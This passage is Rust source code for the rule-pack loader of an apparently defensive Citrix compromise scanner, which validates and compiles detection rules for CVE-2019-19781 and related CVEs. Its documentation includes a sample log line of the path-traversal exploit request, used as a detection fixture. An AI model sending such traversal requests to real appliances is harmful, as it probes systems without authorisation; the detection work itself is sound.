//! Rule packs: data files (`rules/*.toml`, embedded), compiled once.
//!
//! # Rule file format
//!
//! One TOML file per pack:
//!
//! ```toml
//! [pack]
//! name = "mandiant-2019"
//! source = "Mandiant/FireEye + Citrix ioc-scanner-CVE-2019-19781 v1.4 (git 3f53c14)"
//!
//! [[rule]]
//! id = "mandiant-2019/error-traceback"      # "<pack name>/…", unique across packs
//! cves = ["CVE-2019-19781"]                 # at least one
//! severity = "post_exploitation"            # compromise | post_exploitation |
//!                                           # successful_scanning | failed_exploitation | suspicious
//! source = "… scanners/error-logs.sh"       # the exact upstream tool, version, script, check
//! description = "What a hit means."         # for the analyst
//! fixes = "How this differs from the buggy original."   # optional
//! kind = "log"                              # selects the check, see below
//! logs = ["http_error"]
//! fixed = "Traceback (most recent call last):"
//! case_insensitive = true
//! ```
//!
//! The main pattern of a rule is written as `fixed = "…"` (matched literally) or
//! `regex = "…"` (Rust `regex` syntax over bytes, ASCII classes: `\S`, `\w` and `.` work on
//! bytes, `(?-u:\xd4)` or `\xd4` is the byte 0xd4), with optional `case_insensitive = true`.
//! Secondary patterns (`skip_names`, `except`, the `exclude` of log rules) are inline tables
//! `{ fixed = "…" }` or `{ regex = "…", case_insensitive = true }`.
//!
//! | `kind` | fields |
//! |---|---|
//! | `path_exists` | `paths` |
//! | `dir_listing` | `dirs`, and the name as main pattern or `not_names = ["bm_prefix_*"]` |
//! | `content` | `under`, main pattern, optional `exclude` (paths), `max_size`, `text_only`, `skip_names`, `only_names = ["*.php"]` |
//! | `mode` | `under`, `mode = "0644"`, optional `except` |
//! | `mode_not` | `under`, main pattern (file name), `mode = "0444"` |
//! | `owner` | `under`, `user`, `uid`, optional `gid` |
//! | `setuid` | `allow` |
//! | `log` | `logs` (snake_case [`LogKind`] names), main pattern, optional `exclude` (patterns) |
//! | `cron` | `user` and/or main pattern (the command) |
//! | `timestomp` | `under`, `max_gap_secs` |
//!
//! Every rule may carry its own test fixture (checked by `tests/every_rule.rs`, which builds
//! it, runs the rule over it and expects a hit, then builds the near-miss and expects none):
//!
//! ```toml
//! example = '… "GET /vpn/../vpns/portal/12345678.xml HTTP/1.1" 200 71875 …'
//! example_path = "/var/log/httpaccess.log"  # optional: where the example goes
//! near_miss = '… "GET /vpn/../vpns/portal/12345678.xml HTTP/1.1" 404 48 …'
//! ```
//!
//! `example` is what must make the rule fire: a log record (`log`), file content
//! (`content`), a crontab command (`cron` with a command pattern; with `example_path` the
//! whole crontab file), or a file name (`dir_listing`, `mode_not`, and optionally `mode`,
//! `owner`, `timestomp`). `example_hex` gives it as hex bytes instead, for binary examples
//! that are not UTF-8. `example_path` is the appliance path to put it at when the default
//! derived from the check does not fit (an `under` that is a single file, a name that
//! `skip_names` or `only_names` would skip). `near_miss` is similar, benign text (it may
//! hold several lines) that must not make the rule fire, written where the example was.
//! Kinds decided by metadata alone (`path_exists`, `setuid`, a `cron` rule with only a
//! `user`, and `mode`, `owner`, `timestomp`) need no example: the fixture follows from the
//! check.
//!
//! Paths are absolute appliance paths; a trailing `/` is dropped; a `*` component matches
//! one directory level. An `under` or `exclude` entry may also name a single file (a path is
//! under an entry when it equals it or continues it after a `/`).
//!
//! `only_names` and `not_names` take name globs of one form each: `*.ext` (suffix), `prefix*`
//! or an exact name, matched case-insensitively. They compile to ordinary patterns:
//! `only_names` becomes (part of) `skip_names` (skip every file whose name is none of these),
//! `not_names` becomes the `dir_listing` name (any name but these).

use std::collections::{BTreeMap, HashSet};
use std::sync::OnceLock;

use regex::bytes::RegexBuilder;
use serde::Deserialize;

use crate::logs::LogKind;

/// Compiled-program size limit of one pattern.
const REGEX_SIZE_LIMIT: usize = 1 << 20;
/// Lazy-DFA cache limit of one pattern.
const REGEX_DFA_SIZE_LIMIT: usize = 4 << 20;

/// How bad a hit is.
#[derive(
    Clone, Copy, Debug, PartialEq, Eq, Hash, PartialOrd, Ord, serde::Serialize, serde::Deserialize,
)]
#[serde(rename_all = "snake_case")]
pub enum Severity {
    /// Evidence of compromise: a backdoor, a dropped file, an attacker's command.
    Compromise,
    /// What attackers do after getting in (downloads, miners, errors of their scripts).
    PostExploitation,
    /// The vulnerability was successfully probed (the attacker knows it is open).
    SuccessfulScanning,
    /// Exploitation was tried and failed.
    FailedExploitation,
    /// Worth a look; not proof.
    Suspicious,
}

/// A pattern over bytes: a fixed string or a regular expression (Rust `regex` syntax:
/// `\S` means what the originals' `[^\s]` meant to).
#[derive(Clone, Debug)]
pub struct Pattern {
    /// As written in the rule file.
    pub source: String,
    pub fixed: bool,
    pub case_insensitive: bool,
    pub(crate) regex: regex::bytes::Regex,
}

impl Pattern {
    /// The first match in `haystack`, as a byte range.
    pub fn find(&self, haystack: &[u8]) -> Option<std::ops::Range<usize>> {
        self.regex.find(haystack).map(|m| m.range())
    }
}

/// What a rule looks at. Paths are appliance paths (`/var/vpn/themes`); `under` lists are
/// directory prefixes; a `*` component matches one directory level.
#[derive(Clone, Debug)]
pub enum Check {
    /// One of these files exists.
    PathExists { paths: Vec<String> },
    /// A file directly in one of these directories has a name matching `name`.
    DirListing { dirs: Vec<String>, name: Pattern },
    /// A file under these directories (not under `exclude`) holds `pattern`. `max_size`
    /// skips larger files; `text_only` skips binary files (a NUL in the first 8 KiB);
    /// `skip_names` skips files whose name matches (e.g. legitimate bookmark XML).
    Content {
        under: Vec<String>,
        exclude: Vec<String>,
        pattern: Pattern,
        max_size: Option<u64>,
        text_only: bool,
        skip_names: Option<Pattern>,
    },
    /// A file under these directories has exactly this permission mode (`0o644`), unless
    /// its name matches `except`.
    Mode {
        under: Vec<String>,
        mode: u32,
        except: Option<Pattern>,
    },
    /// A PHP file under these directories whose mode is not `mode` (Fox-IT: 0444).
    ModeNot {
        under: Vec<String>,
        name: Pattern,
        mode: u32,
    },
    /// A file owned by `user` (uid `uid` when names are not recorded) under these dirs,
    /// optionally with group id `gid`.
    Owner {
        under: Vec<String>,
        user: String,
        uid: u32,
        gid: Option<u32>,
    },
    /// A setuid-root file outside the allow-list.
    Setuid { allow: Vec<String> },
    /// A record of one of these logs holds `pattern` and none of `exclude`.
    Log {
        logs: Vec<LogKind>,
        pattern: Pattern,
        exclude: Vec<Pattern>,
    },
    /// A crontab entry (`/etc/crontab`, `/var/cron/tabs/*`) for `user`, or whose command
    /// matches `command`. `file_exists` alone: the crontab file of that user exists.
    Cron {
        user: Option<String>,
        command: Option<Pattern>,
    },
    /// `ctime − mtime` beyond `max_gap_secs` under these dirs (timestomping), computed
    /// in whole seconds (Fox-IT used `timedelta.seconds`, the sub-day remainder).
    Timestomp {
        under: Vec<String>,
        max_gap_secs: i64,
    },
}

/// One rule.
#[derive(Clone, Debug)]
pub struct Rule {
    /// Unique across packs: `mandiant-2019/access-xml`.
    pub id: String,
    pub cves: Vec<String>,
    pub severity: Severity,
    /// Where it comes from: `Mandiant/Citrix ioc-scanner-CVE-2019-19781 v1.4, access-logs.sh re0`.
    pub source: String,
    /// What a hit means, for the analyst.
    pub description: String,
    /// How this rule differs from the original, when the original was buggy.
    pub fixes: Option<String>,
    pub check: Check,
    /// What must make the rule fire (a log record, file content, a crontab command or a
    /// file name, as the check takes it), as bytes; `None` for checks whose fixture follows
    /// from the check itself.
    pub example: Option<Vec<u8>>,
    /// The appliance path the example goes to, when the default derived from the check does
    /// not fit.
    pub example_path: Option<String>,
    /// Benign text like the example that must not make the rule fire.
    pub near_miss: Option<String>,
}

/// A rule pack: one upstream tool or rule set.
#[derive(Clone, Debug)]
pub struct RulePack {
    pub name: String,
    pub source: String,
    pub rules: Vec<Rule>,
}

/// A rule file could not be used.
#[derive(Debug, thiserror::Error)]
pub enum RuleError {
    #[error("{file}: {detail}")]
    Invalid { file: String, detail: String },
}

impl Check {
    /// The `kind` of this check as written in rule files.
    pub fn kind(&self) -> &'static str {
        match self {
            Check::PathExists { .. } => "path_exists",
            Check::DirListing { .. } => "dir_listing",
            Check::Content { .. } => "content",
            Check::Mode { .. } => "mode",
            Check::ModeNot { .. } => "mode_not",
            Check::Owner { .. } => "owner",
            Check::Setuid { .. } => "setuid",
            Check::Log { .. } => "log",
            Check::Cron { .. } => "cron",
            Check::Timestomp { .. } => "timestomp",
        }
    }
}

impl Rule {
    /// The rule's main pattern: what content or a log record must hold, the file name of a
    /// listing or mode check, or the command of a cron check.
    pub fn pattern(&self) -> Option<&Pattern> {
        match &self.check {
            Check::Content { pattern, .. } | Check::Log { pattern, .. } => Some(pattern),
            Check::DirListing { name, .. } | Check::ModeNot { name, .. } => Some(name),
            Check::Cron { command, .. } => command.as_ref(),
            Check::PathExists { .. }
            | Check::Mode { .. }
            | Check::Owner { .. }
            | Check::Setuid { .. }
            | Check::Timestomp { .. } => None,
        }
    }
}

/// The embedded rule files, by their path in the crate.
const BUILTIN_FILES: &[(&str, &str)] = &[
    (
        "rules/mandiant-2019.toml",
        include_str!("../rules/mandiant-2019.toml"),
    ),
    (
        "rules/mandiant-2023.toml",
        include_str!("../rules/mandiant-2023.toml"),
    ),
    (
        "rules/foxit-iocitrix.toml",
        include_str!("../rules/foxit-iocitrix.toml"),
    ),
    (
        "rules/x1sec-j81blog.toml",
        include_str!("../rules/x1sec-j81blog.toml"),
    ),
    (
        "rules/ncsc-nl-2025.toml",
        include_str!("../rules/ncsc-nl-2025.toml"),
    ),
    ("rules/sigma.toml", include_str!("../rules/sigma.toml")),
    ("rules/wachter.toml", include_str!("../rules/wachter.toml")),
];

/// The packs shipped with wachter.
///
/// The embedded files are checked by the tests of this module; an invalid one is a build
/// defect and panics.
pub fn builtin() -> Vec<RulePack> {
    static PACKS: OnceLock<Vec<RulePack>> = OnceLock::new();
    PACKS
        .get_or_init(|| {
            let packs: Vec<RulePack> = BUILTIN_FILES
                .iter()
                .map(|(file, text)| {
                    parse_pack(text, file)
                        .unwrap_or_else(|e| panic!("built-in rule pack is invalid: {e}"))
                })
                .collect();
            if let Err(e) = check_unique(&packs) {
                panic!("built-in rule packs are invalid: {e}");
            }
            packs
        })
        .clone()
}

/// Checks that rule ids are unique across `packs` (each pack is checked on its own when it
/// is parsed; use this when adding packs to the built-in ones).
pub fn check_unique(packs: &[RulePack]) -> Result<(), RuleError> {
    let mut names = HashSet::new();
    let mut ids: HashSet<&str> = HashSet::new();
    for pack in packs {
        if !names.insert(pack.name.as_str()) {
            return Err(RuleError::Invalid {
                file: pack.name.clone(),
                detail: format!("pack name {:?} is used by two packs", pack.name),
            });
        }
        for rule in &pack.rules {
            if !ids.insert(rule.id.as_str()) {
                return Err(RuleError::Invalid {
                    file: pack.name.clone(),
                    detail: format!("rule {}: id is not unique across packs", rule.id),
                });
            }
        }
    }
    Ok(())
}

/// Parses and compiles one rule file (TOML).
pub fn parse_pack(text: &str, file: &str) -> Result<RulePack, RuleError> {
    let invalid = |detail: String| RuleError::Invalid {
        file: file.to_string(),
        detail,
    };
    let mut table: toml::Table = toml::from_str(text).map_err(|e| invalid(e.to_string()))?;
    if let Some(key) = table.keys().find(|k| *k != "pack" && *k != "rule") {
        return Err(invalid(format!(
            "unknown top-level key `{key}` (expected `pack` and `rule`)"
        )));
    }
    let header: RawHeader = table
        .remove("pack")
        .ok_or_else(|| invalid("missing [pack] table".into()))?
        .try_into()
        .map_err(|e: toml::de::Error| invalid(format!("[pack]: {}", e.message())))?;
    validate_name(&header.name).map_err(|e| invalid(format!("[pack]: {e}")))?;
    if header.source.trim().is_empty() {
        return Err(invalid("[pack]: empty source".into()));
    }
    let raw_rules = match table.remove("rule") {
        Some(toml::Value::Array(rules)) => rules,
        Some(_) => {
            return Err(invalid(
                "`rule` must be an array of tables ([[rule]])".into(),
            ));
        }
        None => Vec::new(),
    };
    if raw_rules.is_empty() {
        return Err(invalid("the pack has no rules".into()));
    }
    let mut rules = Vec::with_capacity(raw_rules.len());
    let mut ids = HashSet::new();
    for (index, value) in raw_rules.into_iter().enumerate() {
        let label = value
            .get("id")
            .and_then(toml::Value::as_str)
            .map(str::to_string)
            .unwrap_or_else(|| format!("#{} (no id)", index + 1));
        let rule_err = |detail: String| invalid(format!("rule {label}: {detail}"));
        let raw: RawRule = value
            .try_into()
            .map_err(|e: toml::de::Error| rule_err(e.message().to_string()))?;
        let rule = compile_rule(raw, &header.name).map_err(rule_err)?;
        if !ids.insert(rule.id.clone()) {
            return Err(invalid(format!("rule {label}: duplicate id")));
        }
        rules.push(rule);
    }
    Ok(RulePack {
        name: header.name,
        source: header.source,
        rules,
    })
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct RawHeader {
    name: String,
    source: String,
}

/// A secondary pattern: `{ fixed = "…" }` or `{ regex = "…", case_insensitive = true }`.
#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct RawPattern {
    fixed: Option<String>,
    regex: Option<String>,
    #[serde(default)]
    case_insensitive: bool,
}

/// One `[[rule]]` table: the common fields and the union of every kind's fields; which of
/// them a kind takes is checked in [`compile_check`].
#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct RawRule {
    id: String,
    cves: Vec<String>,
    severity: Severity,
    source: String,
    description: String,
    fixes: Option<String>,
    kind: String,
    fixed: Option<String>,
    regex: Option<String>,
    case_insensitive: Option<bool>,
    paths: Option<Vec<String>>,
    dirs: Option<Vec<String>>,
    not_names: Option<Vec<String>>,
    under: Option<Vec<String>>,
    /// Paths (`content`) or patterns (`log`).
    exclude: Option<toml::Value>,
    max_size: Option<u64>,
    text_only: Option<bool>,
    skip_names: Option<RawPattern>,
    only_names: Option<Vec<String>>,
    mode: Option<String>,
    except: Option<RawPattern>,
    user: Option<String>,
    uid: Option<u32>,
    gid: Option<u32>,
    allow: Option<Vec<String>>,
    logs: Option<Vec<String>>,
    max_gap_secs: Option<i64>,
    example: Option<String>,
    example_hex: Option<String>,
    example_path: Option<String>,
    near_miss: Option<String>,
}

fn validate_name(name: &str) -> Result<(), String> {
    let ok = !name.is_empty()
        && name
            .bytes()
            .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-');
    if ok {
        Ok(())
    } else {
        Err(format!(
            "pack name {name:?} must be non-empty lowercase letters, digits and '-'"
        ))
    }
}

fn compile_rule(raw: RawRule, pack: &str) -> Result<Rule, String> {
    let prefix = format!("{pack}/");
    let local = raw
        .id
        .strip_prefix(&prefix)
        .ok_or_else(|| format!("id must start with {prefix:?}"))?;
    if local.is_empty()
        || !raw.id.bytes().all(|b| {
            b.is_ascii_lowercase() || b.is_ascii_digit() || matches!(b, b'-' | b'_' | b'.' | b'/')
        })
    {
        return Err("id may hold only lowercase letters, digits, '-', '_', '.' and '/'".into());
    }
    if raw.cves.is_empty() {
        return Err("`cves` is empty".into());
    }
    for cve in &raw.cves {
        if !is_cve_id(cve) {
            return Err(format!("{cve:?} is not a CVE id (CVE-YYYY-NNNN)"));
        }
    }
    for (field, value) in [
        ("source", Some(&raw.source)),
        ("description", Some(&raw.description)),
        ("fixes", raw.fixes.as_ref()),
    ] {
        if value.is_some_and(|v| v.trim().is_empty()) {
            return Err(format!("`{field}` is empty"));
        }
    }
    let check = compile_check(&raw)?;
    let example = match (&raw.example, &raw.example_hex) {
        (Some(_), Some(_)) => return Err("give either `example` or `example_hex`, not both".into()),
        (Some(text), None) if text.is_empty() => return Err("`example` is empty".into()),
        (Some(text), None) => Some(text.as_bytes().to_vec()),
        (None, Some(hex)) => Some(from_hex(hex)?),
        (None, None) => None,
    };
    if raw.near_miss.as_deref() == Some("") {
        return Err("`near_miss` is empty".into());
    }
    let example_path = match &raw.example_path {
        None => None,
        Some(path) => paths(&Some(vec![path.clone()]), "example_path", false)?.pop(),
    };
    if example.is_none() && (example_path.is_some() || raw.near_miss.is_some()) {
        return Err("`example_path` and `near_miss` need an `example`".into());
    }
    Ok(Rule {
        id: raw.id,
        cves: raw.cves,
        severity: raw.severity,
        source: raw.source,
        description: raw.description,
        fixes: raw.fixes,
        check,
        example,
        example_path,
        near_miss: raw.near_miss,
    })
}

/// Hex digits (whitespace between bytes allowed) as bytes.
fn from_hex(text: &str) -> Result<Vec<u8>, String> {
    let digits: Vec<u8> = text.bytes().filter(|b| !b.is_ascii_whitespace()).collect();
    if digits.is_empty() || !digits.len().is_multiple_of(2) {
        return Err(format!(
            "`example_hex` {text:?} is not an even number of hex digits"
        ));
    }
    digits
        .chunks(2)
        .map(|pair| {
            std::str::from_utf8(pair)
                .ok()
                .and_then(|p| u8::from_str_radix(p, 16).ok())
                .ok_or_else(|| format!("`example_hex` {text:?} is not hex"))
        })
        .collect()
}

fn is_cve_id(s: &str) -> bool {
    let mut parts = s.split('-');
    let (Some("CVE"), Some(year), Some(num), None) =
        (parts.next(), parts.next(), parts.next(), parts.next())
    else {
        return false;
    };
    year.len() == 4
        && year.bytes().all(|b| b.is_ascii_digit())
        && num.len() >= 4
        && num.bytes().all(|b| b.is_ascii_digit())
}

/// The fields each kind takes (besides the common ones). `pattern` stands for the main
/// pattern (`fixed`/`regex`/`case_insensitive`).
fn allowed_fields(kind: &str) -> Option<&'static [&'static str]> {
    Some(match kind {
        "path_exists" => &["paths"],
        "dir_listing" => &["dirs", "pattern", "not_names"],
        "content" => &[
            "under",
            "exclude",
            "pattern",
            "max_size",
            "text_only",
            "skip_names",
            "only_names",
        ],
        "mode" => &["under", "mode", "except"],
        "mode_not" => &["under", "pattern", "mode"],
        "owner" => &["under", "user", "uid", "gid"],
        "setuid" => &["allow"],
        "log" => &["logs", "pattern", "exclude"],
        "cron" => &["user", "pattern"],
        "timestomp" => &["under", "max_gap_secs"],
        _ => return None,
    })
}

fn compile_check(raw: &RawRule) -> Result<Check, String> {
    let kind = raw.kind.as_str();
    let allowed = allowed_fields(kind).ok_or_else(|| {
        format!(
            "unknown kind {kind:?} (path_exists, dir_listing, content, mode, mode_not, owner, \
             setuid, log, cron, timestomp)"
        )
    })?;
    let present = [
        (
            "pattern",
            raw.fixed.is_some() || raw.regex.is_some() || raw.case_insensitive.is_some(),
        ),
        ("paths", raw.paths.is_some()),
        ("dirs", raw.dirs.is_some()),
        ("not_names", raw.not_names.is_some()),
        ("under", raw.under.is_some()),
        ("exclude", raw.exclude.is_some()),
        ("max_size", raw.max_size.is_some()),
        ("text_only", raw.text_only.is_some()),
        ("skip_names", raw.skip_names.is_some()),
        ("only_names", raw.only_names.is_some()),
        ("mode", raw.mode.is_some()),
        ("except", raw.except.is_some()),
        ("user", raw.user.is_some()),
        ("uid", raw.uid.is_some()),
        ("gid", raw.gid.is_some()),
        ("allow", raw.allow.is_some()),
        ("logs", raw.logs.is_some()),
        ("max_gap_secs", raw.max_gap_secs.is_some()),
    ];
    for (field, is_present) in present {
        if is_present && !allowed.contains(&field) {
            let field = if field == "pattern" {
                "fixed/regex/case_insensitive"
            } else {
                field
            };
            return Err(format!("`{field}` does not apply to kind {kind:?}"));
        }
    }
    let main = || -> Result<Pattern, String> {
        main_pattern(raw)?.ok_or_else(|| format!("kind {kind:?} needs `fixed` or `regex`"))
    };
    Ok(match kind {
        "path_exists" => Check::PathExists {
            paths: paths(&raw.paths, "paths", false)?,
        },
        "dir_listing" => {
            let dirs = paths(&raw.dirs, "dirs", true)?;
            let name = match (main_pattern(raw)?, &raw.not_names) {
                (Some(p), None) => p,
                (None, Some(globs)) => {
                    let source = names_complement(globs)?;
                    compile_pattern(&source, false, true)?
                }
                _ => return Err("dir_listing needs either `fixed`/`regex` or `not_names`".into()),
            };
            Check::DirListing { dirs, name }
        }
        "content" => {
            let exclude = match &raw.exclude {
                None => Vec::new(),
                Some(v) => {
                    let list: Vec<String> = v
                        .clone()
                        .try_into()
                        .map_err(|_| "`exclude` of a content rule is a list of paths")?;
                    paths(&Some(list), "exclude", true)?
                }
            };
            let skip = raw.skip_names.as_ref().map(secondary).transpose()?;
            let skip_names = match (&raw.only_names, skip) {
                (None, skip) => skip,
                (Some(globs), None) => {
                    Some(compile_pattern(&names_complement(globs)?, false, true)?)
                }
                (Some(globs), Some(skip)) => {
                    let own = if skip.fixed {
                        regex::escape(&skip.source)
                    } else {
                        skip.source.clone()
                    };
                    let flag = if skip.case_insensitive { "?i" } else { "?" };
                    let source = format!("({flag}:{own})|(?i:{})", names_complement(globs)?);
                    Some(compile_pattern(&source, false, false)?)
                }
            };
            if raw.max_size == Some(0) {
                return Err("`max_size` is 0".into());
            }
            Check::Content {
                under: paths(&raw.under, "under", true)?,
                exclude,
                pattern: main()?,
                max_size: raw.max_size,
                text_only: raw.text_only.unwrap_or(false),
                skip_names,
            }
        }
        "mode" => Check::Mode {
            under: paths(&raw.under, "under", true)?,
            mode: mode(&raw.mode)?,
            except: raw.except.as_ref().map(secondary).transpose()?,
        },
        "mode_not" => Check::ModeNot {
            under: paths(&raw.under, "under", true)?,
            name: main()?,
            mode: mode(&raw.mode)?,
        },
        "owner" => {
            let user = raw.user.clone().ok_or("kind \"owner\" needs `user`")?;
            if user.is_empty() {
                return Err("`user` is empty".into());
            }
            Check::Owner {
                under: paths(&raw.under, "under", true)?,
                user,
                uid: raw.uid.ok_or("kind \"owner\" needs `uid`")?,
                gid: raw.gid,
            }
        }
        "setuid" => Check::Setuid {
            allow: paths(&raw.allow, "allow", false)?,
        },
        "log" => {
            let logs = raw
                .logs
                .as_ref()
                .filter(|l| !l.is_empty())
                .ok_or("`logs` is missing or empty")?
                .iter()
                .map(|name| {
                    log_kind(name).ok_or_else(|| {
                        format!(
                            "unknown log kind {name:?} (http_access, http_error, bash, notice, \
                             sh, cron, ns_log, messages)"
                        )
                    })
                })
                .collect::<Result<Vec<_>, _>>()?;
            let exclude = match &raw.exclude {
                None => Vec::new(),
                Some(v) => {
                    let list: Vec<RawPattern> = v.clone().try_into().map_err(
                        |_| "`exclude` of a log rule is a list of { fixed = … } / { regex = … }",
                    )?;
                    list.iter().map(secondary).collect::<Result<Vec<_>, _>>()?
                }
            };
            Check::Log {
                logs,
                pattern: main()?,
                exclude,
            }
        }
        "cron" => {
            let command = main_pattern(raw)?;
            if raw.user.is_none() && command.is_none() {
                return Err("kind \"cron\" needs `user` or a command pattern".into());
            }
            if raw.user.as_deref() == Some("") {
                return Err("`user` is empty".into());
            }
            Check::Cron {
                user: raw.user.clone(),
                command,
            }
        }
        "timestomp" => {
            let gap = raw
                .max_gap_secs
                .ok_or("kind \"timestomp\" needs `max_gap_secs`")?;
            if gap <= 0 {
                return Err("`max_gap_secs` must be positive".into());
            }
            Check::Timestomp {
                under: paths(&raw.under, "under", true)?,
                max_gap_secs: gap,
            }
        }
        _ => unreachable!("kinds are checked by allowed_fields"),
    })
}

/// The snake_case names of [`LogKind`] (as serialised).
fn log_kind(name: &str) -> Option<LogKind> {
    Some(match name {
        "http_access" => LogKind::HttpAccess,
        "http_error" => LogKind::HttpError,
        "bash" => LogKind::Bash,
        "notice" => LogKind::Notice,
        "sh" => LogKind::Sh,
        "cron" => LogKind::Cron,
        "ns_log" => LogKind::NsLog,
        "messages" => LogKind::Messages,
        _ => return None,
    })
}

fn mode(raw: &Option<String>) -> Result<u32, String> {
    let text = raw.as_deref().ok_or("`mode` is missing")?;
    let digits = text.strip_prefix("0o").unwrap_or(text);
    if digits.is_empty() || digits.len() > 5 {
        return Err(format!("mode {text:?} is not an octal mode like \"0644\""));
    }
    match u32::from_str_radix(digits, 8) {
        Ok(m) if m <= 0o7777 => Ok(m),
        _ => Err(format!("mode {text:?} is not an octal mode like \"0644\"")),
    }
}

/// Validates and normalises a list of appliance paths: non-empty, absolute, no `.`/`..`
/// components, a trailing `/` dropped; `*` only as a whole component and only if `glob`.
fn paths(list: &Option<Vec<String>>, field: &str, glob: bool) -> Result<Vec<String>, String> {
    let list = list
        .as_ref()
        .filter(|l| !l.is_empty())
        .ok_or_else(|| format!("`{field}` is missing or empty"))?;
    list.iter()
        .map(|p| {
            if !p.starts_with('/') {
                return Err(format!("`{field}`: {p:?} is not an absolute path"));
            }
            for component in p.split('/') {
                if component == "." || component == ".." {
                    return Err(format!("`{field}`: {p:?} has a . or .. component"));
                }
                if component.contains('*') && (!glob || component != "*") {
                    return Err(format!(
                        "`{field}`: {p:?}: `*` is allowed only as a whole directory component{}",
                        if glob { "" } else { " of directory lists" }
                    ));
                }
            }
            let trimmed = p.trim_end_matches('/');
            Ok(if trimmed.is_empty() { "/" } else { trimmed }.to_string())
        })
        .collect()
}

fn main_pattern(raw: &RawRule) -> Result<Option<Pattern>, String> {
    let ci = raw.case_insensitive.unwrap_or(false);
    match (&raw.fixed, &raw.regex) {
        (Some(_), Some(_)) => Err("give either `fixed` or `regex`, not both".into()),
        (Some(f), None) => compile_pattern(f, true, ci).map(Some),
        (None, Some(r)) => compile_pattern(r, false, ci).map(Some),
        (None, None) if raw.case_insensitive.is_some() => {
            Err("`case_insensitive` without `fixed` or `regex`".into())
        }
        (None, None) => Ok(None),
    }
}

fn secondary(raw: &RawPattern) -> Result<Pattern, String> {
    match (&raw.fixed, &raw.regex) {
        (Some(f), None) => compile_pattern(f, true, raw.case_insensitive),
        (None, Some(r)) => compile_pattern(r, false, raw.case_insensitive),
        _ => Err("a pattern table needs exactly one of `fixed` and `regex`".into()),
    }
}

/// Compiles a pattern: fixed strings are escaped so that one code path matches both. Unicode
/// mode is off: classes and `.` work on bytes, so binary files and invalid UTF-8 match too.
fn compile_pattern(source: &str, fixed: bool, case_insensitive: bool) -> Result<Pattern, String> {
    if source.is_empty() {
        return Err("empty pattern".into());
    }
    let expr = if fixed && is_ipv4(source) {
        // An address term matches whole addresses: `62.113.112.33` must not fire on
        // `162.113.112.33` or `62.113.112.330`.
        format!(r"(?:^|[^0-9.]){}(?:$|[^0-9])", regex::escape(source))
    } else if fixed {
        regex::escape(source)
    } else {
        source.to_string()
    };
    let regex = RegexBuilder::new(&expr)
        .unicode(false)
        .case_insensitive(case_insensitive)
        .size_limit(REGEX_SIZE_LIMIT)
        .dfa_size_limit(REGEX_DFA_SIZE_LIMIT)
        .build()
        .map_err(|e| format!("pattern {source:?}: {e}"))?;
    Ok(Pattern {
        source: source.to_string(),
        fixed,
        case_insensitive,
        regex,
    })
}

/// A dotted-quad IPv4 address, as rule terms write them.
fn is_ipv4(s: &str) -> bool {
    s.parse::<std::net::Ipv4Addr>().is_ok()
}

/// The form of the globs in one `only_names`/`not_names` list.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
enum GlobForm {
    Exact,
    Prefix,
    Suffix,
}

#[derive(Default)]
struct Trie {
    terminal: bool,
    children: BTreeMap<char, Trie>,
}

impl Trie {
    fn insert(&mut self, word: impl Iterator<Item = char>) {
        let mut node = self;
        for c in word {
            node = node.children.entry(c).or_default();
        }
        node.terminal = true;
    }

    fn class(&self) -> String {
        let chars: String = self
            .children
            .keys()
            .map(|c| regex::escape(&c.to_string()))
            .collect();
        format!("[^{chars}]")
    }

    /// Names (the rest after this node's prefix) that are none of the words (exact form).
    fn exact(&self) -> String {
        let mut alts = Vec::new();
        if !self.terminal {
            alts.push(String::new());
        }
        if self.children.is_empty() {
            alts.push("(?s:.+)".into());
        } else {
            alts.push(format!("{}(?s:.*)", self.class()));
        }
        for (c, child) in &self.children {
            alts.push(format!(
                "{}{}",
                regex::escape(&c.to_string()),
                child.exact()
            ));
        }
        format!("(?:{})", alts.join("|"))
    }

    /// Rests that start with none of the words (prefix form); `None`: no rest qualifies.
    fn not_prefixed(&self) -> Option<String> {
        if self.terminal {
            return None;
        }
        let mut alts = vec![String::new(), format!("{}(?s:.*)", self.class())];
        for (c, child) in &self.children {
            if let Some(rest) = child.not_prefixed() {
                alts.push(format!("{}{rest}", regex::escape(&c.to_string())));
            }
        }
        Some(format!("(?:{})", alts.join("|")))
    }

    /// Over a trie of reversed words: names whose end is none of the words (suffix form).
    /// The regex matches the part before the characters consumed on the way to this node.
    fn not_suffixed(&self) -> Option<String> {
        if self.terminal {
            return None;
        }
        let mut alts = vec![String::new(), format!("(?s:.*){}", self.class())];
        for (c, child) in &self.children {
            if let Some(before) = child.not_suffixed() {
                alts.push(format!("{before}{}", regex::escape(&c.to_string())));
            }
        }
        Some(format!("(?:{})", alts.join("|")))
    }
}

/// A regex (to be compiled case-insensitively) matching every file name that matches none
/// of `globs` (`*.php`, `bm_prefix_*`, or exact names; one form per list; ASCII).
fn names_complement(globs: &[String]) -> Result<String, String> {
    if globs.is_empty() {
        return Err("empty name list".into());
    }
    let mut form = None;
    let mut trie = Trie::default();
    for glob in globs {
        if !glob.is_ascii() || glob.contains('/') {
            return Err(format!("name glob {glob:?} must be ASCII without '/'"));
        }
        let (this, literal) = match glob.matches('*').count() {
            0 => (GlobForm::Exact, glob.as_str()),
            1 if glob.starts_with('*') => (GlobForm::Suffix, &glob[1..]),
            1 if glob.ends_with('*') => (GlobForm::Prefix, &glob[..glob.len() - 1]),
            _ => {
                return Err(format!(
                    "name glob {glob:?}: only `*.ext`, `prefix*` or an exact name"
                ));
            }
        };
        if literal.is_empty() {
            return Err(format!("name glob {glob:?} matches every name"));
        }
        if form.is_some_and(|f| f != this) {
            return Err("name globs of one list must all have the same form".into());
        }
        form = Some(this);
        let literal = literal.to_ascii_lowercase();
        if this == GlobForm::Suffix {
            trie.insert(literal.chars().rev());
        } else {
            trie.insert(literal.chars());
        }
    }
    let body = match form.expect("globs is not empty") {
        GlobForm::Exact => Some(trie.exact()),
        GlobForm::Prefix => trie.not_prefixed(),
        GlobForm::Suffix => trie.not_suffixed(),
    };
    // `None` only when a word is empty, which is rejected above.
    let body = body.ok_or("name globs match every name")?;
    Ok(format!("^{body}$"))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rule(id: &str) -> Rule {
        builtin()
            .into_iter()
            .flat_map(|p| p.rules)
            .find(|r| r.id == id)
            .unwrap_or_else(|| panic!("no rule {id}"))
    }

    fn hits(rule: &Rule, line: &str) -> bool {
